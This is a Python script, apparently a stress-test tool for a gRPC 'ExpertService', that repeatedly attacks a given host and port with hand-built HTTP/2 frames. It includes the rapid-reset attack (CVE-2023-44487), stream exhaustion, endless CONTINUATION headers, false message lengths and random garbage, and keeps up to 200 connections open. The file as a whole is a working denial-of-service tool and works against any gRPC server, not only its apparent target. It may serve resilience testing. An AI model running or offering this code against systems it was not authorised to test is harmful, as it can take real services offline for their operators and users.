"""`python -m attacker HOST:PORT PACE`: attack a gRPC port until the process is ended.

PACE attacks of each kind per second: connections with garbage or nothing; calls reset at once; more calls
than a connection may have; huge headers; messages that are too long or invalid. It reads no answer.
"""

from __future__ import annotations

import os
import random
import socket
import struct
import sys
import time
from collections import deque
from collections.abc import Callable

DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
CANCEL = struct.pack(">I", 8)
CONNECT = "/eaas.rpc.v1.ExpertService/Connect"
EXCHANGE = "/eaas.rpc.v1.ExpertService/Exchange"
_CONTINUATION, _END_HEADERS = 9, 4
_RESETS = 100
# Open connections; the oldest is closed for a new one.
_KEPT = 200


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2 (RFC 9113): length, kind, flags and stream, then the payload."""
    size = len(payload)
    return struct.pack(">BHBBI", size >> 16, size & 0xFFFF, kind, flags, stream) + payload


def request_head(stream: int, path: str, authority: str) -> bytes:
    """HEADERS of a gRPC call (HPACK, RFC 7541: `:method: POST` and `:scheme: http`, then literals)."""
    fields = {
        ":path": path,
        ":authority": authority,
        "te": "trailers",
        "content-type": "application/grpc",
    }
    entries = (b"\0" + _text(name) + _text(value) for name, value in fields.items())
    return frame(HEADERS, _END_HEADERS, stream, b"\x83\x86" + b"".join(entries))


def _text(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


def message(payload: bytes) -> bytes:
    return struct.pack(">BI", 0, len(payload)) + payload


OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def resets(authority: str) -> bytes:
    """CVE-2023-44487."""
    calls = (
        request_head(2 * i + 1, CONNECT, authority) + frame(RST_STREAM, 0, 2 * i + 1, CANCEL)
        for i in range(_RESETS)
    )
    return OPENING + b"".join(calls)


def streams(authority: str) -> bytes:
    return OPENING + b"".join(request_head(2 * i + 1, EXCHANGE, authority) for i in range(500))


def headers(authority: str) -> bytes:
    """Headers without an end."""
    head = request_head(1, CONNECT, authority)[9:]
    entry = b"\0\1x\x7e" + b"a" * 126
    pieces = (frame(_CONTINUATION, 0, 1, entry * 100) for _ in range(20))
    return OPENING + frame(HEADERS, 0, 1, head) + b"".join(pieces)


def lengths(authority: str) -> bytes:
    long = struct.pack(">BI", 0, (1 << 31) - 1) + b"a" * 1000
    return OPENING + request_head(1, CONNECT, authority) + frame(DATA, 0, 1, long)


def rubbish(authority: str) -> bytes:
    body = message(random.randbytes(200))
    call = OPENING + request_head(1, CONNECT, authority) + frame(DATA, 1, 1, body)
    return call + request_head(3, EXCHANGE, authority) + frame(DATA, 1, 3, body)


def garbage(_authority: str) -> bytes:
    return random.randbytes(500)


def nothing(_authority: str) -> bytes:
    return b""


KINDS: tuple[Callable[[str], bytes], ...] = (
    resets,
    streams,
    headers,
    lengths,
    rubbish,
    garbage,
    nothing,
)


def main(address: str, pace: float) -> None:
    # Yield to the server, as an attacker on another machine would.
    os.nice(19)
    host, _, port = address.rpartition(":")
    said = [kind(address) for kind in KINDS]
    kept: deque[socket.socket] = deque()
    print("attacking", flush=True)
    while True:
        for data in said:
            time.sleep(1 / pace / len(said))
            connection = socket.create_connection((host, int(port)), timeout=5)
            kept.append(connection)
            if len(kept) > _KEPT:
                kept.popleft().close()
            connection.setblocking(False)
            try:
                connection.send(data)
            except OSError:
                # The server closed it in the middle.
                continue


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]))
